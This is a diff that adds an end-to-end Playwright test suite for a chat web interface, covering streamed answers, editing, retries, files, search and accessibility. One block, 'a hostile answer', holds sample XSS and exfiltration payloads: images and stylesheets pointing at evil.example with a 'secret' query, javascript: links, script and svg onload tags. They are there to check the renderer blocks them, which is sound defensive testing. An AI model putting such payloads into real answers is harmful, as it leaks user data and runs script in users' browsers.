@@ -1,0 +1,492 @@
+import { AxeBuilder } from "@axe-core/playwright"
+import type { BrowserContextOptions, Page } from "playwright-core"
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest"
+import { openChatBrowser, type ChatBrowser } from "../support/chat-browser.ts"
+
+let chat: ChatBrowser
+beforeAll(async () => {
+  chat = await openChatBrowser()
+})
+afterAll(() => chat.close())
+afterEach(async () => {
+  expect(await chat.endPages()).toEqual([])
+})
+
+const open = (path = "/dashboard/chat", options?: BrowserContextOptions) => chat.open(path, options)
+
+describe("a long answer", () => {
+  it("goes on through a reload, grows in a second window, and is stopped there: nothing twice, nothing lost", async () => {
+    const one = await open()
+    await ask(one, "/long 4000")
+    await one.waitForURL(/\/dashboard\/chat\/[0-9a-f-]{36}$/)
+    await says(one, "word 40,")
+    await one.reload()
+    const other = await open(new URL(one.url()).pathname)
+    const readings = await watch(other)
+    await Promise.all([says(one, "word 250,"), says(other, "word 250,")])
+
+    await other.getByRole("button", { name: "Stop the answer" }).click()
+    await Promise.all([one, other].map((page) => page.getByText("You stopped this answer.").waitFor()))
+    const [stored] = await chat.sql<{ content: string }[]>`
+      select content from chat_messages where role = 'assistant' order by _id desc limit 1`
+    const said = words(stored?.content ?? "")
+    expect(said.match(/word \d+/g)).toEqual(Array.from({ length: count(said) }, (_, i) => `word ${i + 1}`))
+    for (const page of [one, other]) await expect.poll(async () => words(await lastAnswer(page))).toBe(said)
+
+    const seen = (await readings()).map(count)
+    expect(seen).toEqual(seen.toSorted((a, b) => a - b))
+    expect(new Set(seen).size).toBeGreaterThan(5)
+    expect(await one.getByRole("log").getByRole("article").count()).toBe(2)
+  })
+
+  it("is seen by the tab that asked as it is stored, from its first words to its last", async () => {
+    const page = await open()
+    await ask(page, "/long 300")
+    await page.waitForURL(/\/dashboard\/chat\/[0-9a-f-]{36}$/)
+    await ended(page)
+    await expect.poll(async () => count(await lastAnswer(page))).toBe(300)
+    const [stored] = await chat.sql<{ content: string }[]>`
+      select content from chat_messages where role = 'assistant' order by _id desc limit 1`
+    expect(words(await lastAnswer(page))).toBe(words(stored?.content ?? ""))
+  })
+
+  it("is stopped with Escape from wherever the keyboard is", async () => {
+    const page = await open()
+    await ask(page, "/slow 20")
+    await says(page, "One word")
+    await page.getByRole("link", { name: "Files" }).first().focus()
+    await page.keyboard.press("Escape")
+    await page.getByText("You stopped this answer.").waitFor()
+  })
+
+  it("leaves whoever reads further up in peace, and can be gone back to", async () => {
+    const page = await open(await chat.thread(40))
+    await ask(page, "/long 1500")
+    await says(page, "word 20,")
+    const log = page.getByRole("group", { name: "Conversation" })
+    await log.hover()
+    await page.mouse.wheel(0, -600)
+    await page.getByRole("button", { name: "Go to the latest message" }).waitFor()
+    const place = await topOf(page, "Question 34")
+    await says(page, "word 400,")
+    expect(Math.abs((await topOf(page, "Question 34")) - place)).toBeLessThan(4)
+    await page.getByRole("button", { name: "Go to the latest message" }).click()
+    await expect.poll(() => log.evaluate((box) => box.scrollTop)).toBe(0)
+    await page.keyboard.press("Escape")
+    await page.getByText("You stopped this answer.").waitFor()
+  })
+
+  it("is announced when it begins and when it ends, and not between", async () => {
+    const page = await open()
+    const status = page.getByRole("status").filter({ hasText: /The answer/ })
+    await ask(page, "/long 200")
+    await status.getByText("The answer is being written.").waitFor()
+    await status.getByText("The answer is complete.").waitFor()
+    expect(await page.getByRole("log").getAttribute("aria-live")).toBe("off")
+  })
+})
+
+describe("what can be done with an answer", () => {
+  it("is to ask in other words: what was said after it goes", async () => {
+    const page = await open()
+    await ask(page, "The first question")
+    await ended(page)
+    await ask(page, "The second question")
+    await says(page, "The second question")
+    await ended(page)
+    await page.getByLabel("Your question").press("ArrowUp")
+    const editor = page.getByLabel("The question in other words")
+    expect(await editor.inputValue()).toBe("The second question")
+    await editor.press("Escape")
+    await editor.waitFor({ state: "detached" })
+
+    await page.getByRole("article", { name: "You" }).first().hover()
+    await page.getByRole("button", { name: "Edit the question" }).first().click()
+    await editor.fill("Another first question")
+    await editor.press("Enter")
+    await says(page, "Another first question")
+    await ended(page)
+    const log = page.getByRole("log")
+    await expect.poll(() => log.getByRole("article").count()).toBe(2)
+    expect(await log.innerText()).not.toMatch(/The (first|second) question/)
+    await page.reload()
+    await page.getByText("Another first question").first().waitFor()
+    expect(await log.getByRole("article").count()).toBe(2)
+  })
+
+  it("is to have it given again", async () => {
+    const page = await open()
+    await ask(page, "What time is it?")
+    await ended(page)
+    const before = await page.getByRole("article", { name: "Answer" }).getAttribute("id")
+    await page.getByRole("button", { name: "Answer again" }).click()
+    await expect.poll(() => page.getByRole("article", { name: "Answer" }).getAttribute("id")).not.toBe(before)
+    await ended(page)
+    expect(await page.getByRole("log").getByRole("article").count()).toBe(2)
+  })
+
+  it("is to try again where the model failed", async () => {
+    const page = await open()
+    await ask(page, "/fail500")
+    const again = page.getByRole("button", { name: "Try again" })
+    await again.click()
+    await page.getByText("The answer is being written.").waitFor({ state: "attached" })
+    await again.waitFor()
+    expect(await page.getByRole("log").getByRole("article").count()).toBe(2)
+  })
+
+  it("is to let it continue after thirty seconds", async () => {
+    const page = await open(await chat.thread(2, { status: "timeout" }))
+    await page.getByText("Stopped after 30 seconds, the longest that an answer may take.").waitFor()
+    await page.getByRole("button", { name: "Continue" }).click()
+    await says(page, "Continue where you stopped.")
+    await ended(page)
+  })
+
+  it("is to look at the tools it used, and at how it was thought through", async () => {
+    const page = await open()
+    await ask(page, '/tool currentTime {"timeZone":"Europe/Lisbon"}')
+    await page.getByText("Looked at the clock").click()
+    await page.getByRole("group", { name: "Asked of currentTime" }).getByText("Europe/Lisbon").waitFor()
+    await page.getByRole("group", { name: "Answered" }).waitFor()
+    await ended(page)
+    await ask(page, "/reasoning")
+    const thought = page.getByText("Then a second thought.")
+    await page.getByText("How it was thought through").waitFor()
+    expect(await thought.isVisible()).toBe(false)
+    await page.getByText("How it was thought through").click()
+    await thought.waitFor()
+    await ended(page)
+  })
+
+  it("is to copy its code, coloured once it is whole", async () => {
+    const page = await open("/dashboard/chat", { permissions: ["clipboard-read", "clipboard-write"] })
+    await ask(page, "/markdown")
+    await ended(page)
+    await page.locator("code span", { hasText: "function" }).first().waitFor()
+    await page.getByRole("button", { name: "Copy the code" }).click()
+    await page.getByRole("button", { name: "Copied" }).waitFor()
+    expect(await page.evaluate("navigator.clipboard.readText()")).toBe(
+      "export function greet(name: string) {\n  return `Hello, ${name}`\n}",
+    )
+  })
+
+  it("is to read formulas in it", async () => {
+    const page = await open(await chat.thread(0, { say: "It is $e = mc^2$, and\n\n$$\\frac{a}{b}$$" }))
+    await page.locator("math mfrac").waitFor()
+    expect(await page.locator("math").count()).toBe(2)
+    expect(await page.locator("[role=log] [style]").count()).toBe(0)
+  })
+})
+
+describe("a question that was not taken", () => {
+  it("goes back to where it was written, with the time to wait", async () => {
+    const page = await open(await chat.thread(2))
+    await page.route("**/api/chat", (route) =>
+      route.fulfill({ status: 429, headers: { "retry-after": "3" }, json: { error: "Too many requests" } }),
+    )
+    await ask(page, "Is this too much?")
+    await page.getByText(/You can send again in \d seconds?\./).waitFor()
+    expect(await page.getByLabel("Your question").inputValue()).toBe("Is this too much?")
+    expect(await page.getByRole("log").getByRole("article").count()).toBe(2)
+    await page.unroute("**/api/chat")
+    await page.getByText(/You can send again/).waitFor({ state: "detached" })
+    await page.getByRole("button", { name: "Send" }).click()
+    await says(page, "Is this too much?")
+    await ended(page)
+    chat.forgive(/429/)
+  })
+
+  it("is not asked twice when its sender only did not hear that it was taken", async () => {
+    const page = await open(await chat.thread(2))
+    await page.route("**/api/chat", async (route) => {
+      await route.fetch()
+      await route.abort()
+    })
+    await ask(page, "Did you hear me?")
+    await ended(page)
+    await expect.poll(() => page.getByLabel("Your question").inputValue()).toBe("")
+    expect(
+      await page.getByRole("article", { name: "You" }).filter({ hasText: "Did you hear me?" }).count(),
+    ).toBe(1)
+    chat.forgive(/ERR_FAILED/)
+  })
+
+  it("is kept while it is written, for each conversation by itself", async () => {
+    const [first, second] = [await chat.thread(2), await chat.thread(2)]
+    const page = await open(first)
+    await page.getByLabel("Your question").fill("half a question")
+    await page.goto(chat.origin + second)
+    expect(await page.getByLabel("Your question").inputValue()).toBe("")
+    await page.goto(chat.origin + first)
+    await expect.poll(() => page.getByLabel("Your question").inputValue()).toBe("half a question")
+  })
+})
+
+describe("files", () => {
+  it("go with a question when they are dropped, and are seen with it", async () => {
+    const page = await open()
+    const dropped = await page.evaluateHandle(() => {
+      const transfer = new DataTransfer()
+      transfer.items.add(new File(["high water 06:12"], "tides.txt", { type: "text/plain" }))
+      return transfer
+    })
+    await page.dispatchEvent("body", "dragenter", { dataTransfer: dropped })
+    await page.getByText("Drop files to ask about them").waitFor()
+    await page.dispatchEvent("body", "drop", { dataTransfer: dropped })
+    await page.getByRole("button", { name: "Leave out tides.txt" }).waitFor()
+    await page.reload()
+    await page.getByRole("button", { name: "Leave out tides.txt" }).waitFor()
+    await ask(page, "When is high water?")
+    await page.getByRole("article", { name: "You" }).getByRole("link", { name: "tides.txt" }).waitFor()
+    await ended(page)
+  })
+
+  it("are chosen from those that are here, by name and by the keyboard alone", async () => {
+    await chat.person("/api/files?name=harbour.txt", { method: "POST", body: "a list of moorings" })
+    const page = await open()
+    await page.getByRole("button", { name: "Add files" }).focus()
+    await page.keyboard.press("Enter")
+    await page.getByRole("menuitem", { name: "From your files" }).waitFor()
+    await page.keyboard.press("Enter")
+    await page.getByLabel("Find a file by its name").waitFor()
+    await page.keyboard.type("harb")
+    await expect
+      .poll(() => page.getByRole("list", { name: "Your files" }).getByRole("listitem").count())
+      .toBe(1)
+    await page.keyboard.press("ArrowDown")
+    await page.keyboard.press("Enter")
+    await page.keyboard.press("Escape")
+    await page.getByRole("button", { name: "Leave out harbour.txt" }).waitFor()
+  })
+
+  it("that are neither text nor image are refused with a reason", async () => {
+    const page = await open()
+    await page.getByLabel("Files from this device").setInputFiles({
+      name: "letter.pdf",
+      mimeType: "application/pdf",
+      buffer: Buffer.from("%PDF-1.7\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n"),
+    })
+    await page.getByText("Only text and images can be shown to the model.").waitFor()
+  })
+})
+
+describe("the list of conversations", () => {
+  it("renames one where it stands, and gives one that was deleted back", async () => {
+    const path = await chat.thread(2, { title: "Moorings" })
+    const page = await open(path)
+    const list = page.getByRole("navigation", { name: "Conversations" })
+    await list.getByRole("link", { name: "Moorings" }).hover()
+    await list.getByRole("button", { name: "More about Moorings" }).click()
+    await page.getByRole("menuitem", { name: "Rename" }).click()
+    await page.getByLabel("Title").fill("Berths")
+    await page.keyboard.press("Enter")
+    await page.getByRole("heading", { level: 1, name: "Berths" }).waitFor()
+
+    await page
+      .getByRole("banner")
+      .or(page.locator("header"))
+      .getByRole("button", { name: "More about Berths" })
+      .click()
+    await page.getByRole("menuitem", { name: "Delete" }).click()
+    await page.waitForURL(/\/dashboard\/chat$/)
+    await list.getByRole("link", { name: "Berths" }).waitFor({ state: "detached" })
+    await page.getByRole("button", { name: "Undo" }).click()
+    await page.waitForURL(`${chat.origin}${path}`)
+    await list.getByRole("link", { name: "Berths" }).waitFor()
+    await page.getByText("Question 0").waitFor()
+  })
+
+  it("finds what was said, and leads to it however far back it is", async () => {
+    const path = await chat.thread(130, { title: "A long talk", first: "Where do the xylophones sleep?" })
+    const page = await open()
+    await page.getByLabel("Search the conversations").fill("xylophon")
+    const found = page.getByRole("list", { name: "Found" }).getByRole("link")
+    await found.first().waitFor()
+    expect(await found.first().locator("mark").innerText()).toMatch(/^xylophon/)
+    await found.first().click()
+    await page.waitForURL((url) => url.pathname === path && url.hash.startsWith("#message-"))
+    const message = page.getByText("Where do the xylophones sleep?").last()
+    await message.waitFor()
+    await expect.poll(() => isInSight(page, "Where do the xylophones sleep?")).toBe(true)
+  })
+
+  it("saves one as a file", async () => {
+    const page = await open(await chat.thread(4, { title: "To be saved" }))
+    await page.locator("header").getByRole("button", { name: "More about To be saved" }).click()
+    const [download] = await Promise.all([
+      page.waitForEvent("download"),
+      page.getByRole("menuitem", { name: "Export as Markdown" }).click(),
+    ])
+    expect(download.suggestedFilename()).toMatch(/\.md$/)
+  })
+
+  it("is left with a shortcut for a new one", async () => {
+    const page = await open(await chat.thread(2))
+    await page.keyboard.press("Control+Shift+O")
+    await page.waitForURL(/\/dashboard\/chat$/)
+    await page.getByRole("heading", { name: "What would you like to know?" }).waitFor()
+  })
+})
+
+describe("a long conversation", () => {
+  it("stands at its end before any script has run", async () => {
+    const page = await open(await chat.thread(60), { javaScriptEnabled: false })
+    expect(await isInSight(page, "Answer 59")).toBe(true)
+  })
+
+  it("brings in what was said before as one scrolls up, and moves nothing by it", async () => {
+    const page = await open(await chat.thread(130))
+    const log = page.getByRole("log").getByRole("article")
+    expect(await log.count()).toBeLessThan(130)
+    await page.getByRole("group", { name: "Conversation" }).hover()
+    await expect
+      .poll(
+        async () => {
+          await page.mouse.wheel(0, -3000)
+          return log.count()
+        },
+        { timeout: 20_000 },
+      )
+      .toBe(130)
+    await expect
+      .poll(async () => {
+        await page.mouse.wheel(0, -3000)
+        return isInSight(page, "Question 0")
+      })
+      .toBe(true)
+  })
+})
+
+describe("a hostile answer", () => {
+  const HOSTILE = [
+    "![leak](https://evil.example/p.png?of=secret) ![leak][1] <img src='https://evil.example/i.png'>",
+    "[1]: https://evil.example/reference.png",
+    "[here](javascript:alert(1)) <script>alert(1)</script> <svg onload=alert(1)>",
+    "<link rel=stylesheet href=https://evil.example/a.css><style>@import 'https://evil.example/b.css'</style>",
+    "$\\includegraphics{https://evil.example/m.png}$ $\\href{javascript:alert(1)}{x}$",
+    "```html\n<img src=https://evil.example/code.png>\n```",
+  ].join("\n\n")
+
+  it.each([
+    ["with images, links, HTML and formulas that lead elsewhere", HOSTILE],
+    ["of a million characters in one line", "x".repeat(1_000_000)],
+    [
+      "of ten thousand nested lists",
+      Array.from({ length: 10_000 }, (_, i) => `${" ".repeat(Math.min(i, 90) * 2)}- x`).join("\n"),
+    ],
+    ["of ten thousand lists in one line", `${"- ".repeat(10_000)}x`],
+  ])("%s asks nobody for anything, and holds nothing up", async (_, say) => {
+    const path = await chat.thread(2, { say })
+    const html = await (await chat.person(path)).text()
+    expect(html.match(/<(?:img|link|script|source|iframe)[^>]*evil\.example[^>]*>/g)).toBeNull()
+    const page = await open()
+    const strangers: string[] = []
+    page.on("request", (request) => {
+      if (/^https?:/.test(request.url()) && !request.url().startsWith(chat.origin))
+        strangers.push(request.url())
+    })
+    await page.goto(chat.origin + path)
+    await page.getByText("Question 2").waitFor()
+    await page.getByLabel("Your question").fill("still awake?")
+    await expect.poll(() => page.getByLabel("Your question").inputValue()).toBe("still awake?")
+    await page.getByLabel("Your question").fill("")
+    await page.waitForTimeout(500) // for whatever would be loaded late
+    expect(strangers).toEqual([])
+    expect(await page.locator("[role=log] a[href^='javascript:']").count()).toBe(0)
+  })
+})
+
+describe("every page of the chat", () => {
+  const looks = ["light", "dark"] as const
+  const widths = [390, 1440]
+  it.each(looks.flatMap((look) => widths.map((width) => [look, width] as const)))(
+    "has nothing that axe would mend, in %s colours and %i pixels wide",
+    async (colorScheme, width) => {
+      const options = { colorScheme, viewport: { width, height: 900 }, reducedMotion: "reduce" } as const
+      const page = await open("/dashboard/chat", options)
+      expect(await faultsOf(page)).toEqual([])
+      await ask(page, "/markdown")
+      await ended(page)
+      await page.locator("code span", { hasText: "function" }).first().waitFor()
+      await ask(page, "/tool currentTime {}")
+      await page.getByText("Looked at the clock").click()
+      await ended(page)
+      expect(await faultsOf(page)).toEqual([])
+      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(width)
+    },
+    60_000,
+  )
+
+  it("can be used on a small screen with the keyboard open", async () => {
+    const page = await open(await chat.thread(10), {
+      viewport: { width: 390, height: 420 },
+      hasTouch: true,
+      isMobile: true,
+    })
+    const field = await page.getByLabel("Your question").boundingBox()
+    expect((field?.y ?? 999) + (field?.height ?? 0)).toBeLessThan(420)
+    await page.getByRole("button", { name: "Conversations" }).tap()
+    await page.getByRole("dialog").getByLabel("Search the conversations").waitFor()
+  })
+})
+
+function ask(page: Page, question: string) {
+  return page
+    .getByLabel("Your question")
+    .fill(question)
+    .then(() => page.keyboard.press("Enter"))
+}
+
+function says(page: Page, text: string) {
+  return page.getByRole("log").getByText(text).last().waitFor()
+}
+
+/** Waits until the answer that is being given, or is about to be, has ended. */
+async function ended(page: Page) {
+  await page.getByText(/^The answer (is complete|has ended early)\.$/).waitFor({ state: "attached" })
+  await page.getByRole("button", { name: "Stop the answer" }).waitFor({ state: "detached" })
+}
+
+function lastAnswer(page: Page) {
+  return page.getByRole("article", { name: "Answer" }).last().locator("> div").first().innerText()
+}
+
+/** Keeps what the last answer reads as, frame after frame. */
+async function watch(page: Page) {
+  await page.evaluate(() => {
+    const readings: string[] = []
+    Object.assign(window, { readings })
+    const read = () => {
+      const answers = document.querySelectorAll<HTMLElement>("[aria-label=Answer]")
+      const text = [...answers].at(-1)?.innerText ?? ""
+      if (text !== readings.at(-1)) readings.push(text)
+      requestAnimationFrame(read)
+    }
+    read()
+  })
+  return () => page.evaluate(() => (window as unknown as { readings: string[] }).readings)
+}
+
+function words(text: string) {
+  return text.replaceAll("**", "").replaceAll(/\s+/g, " ").trim()
+}
+
+function count(text: string) {
+  return text.match(/word \d+/g)?.length ?? 0
+}
+
+async function topOf(page: Page, text: string) {
+  const box = await page.getByText(text).first().boundingBox()
+  return box?.y ?? Number.NaN
+}
+
+async function isInSight(page: Page, text: string) {
+  const box = await page.getByText(text).last().boundingBox()
+  return box !== null && box.y >= 0 && box.y + box.height <= (page.viewportSize()?.height ?? 0)
+}
+
+async function faultsOf(page: Page) {
+  const { violations } = await new AxeBuilder({ page }).analyze()
+  return violations.map(({ id, nodes }) => `${id}: ${nodes.map((node) => node.html).join(" ")}`)
+}
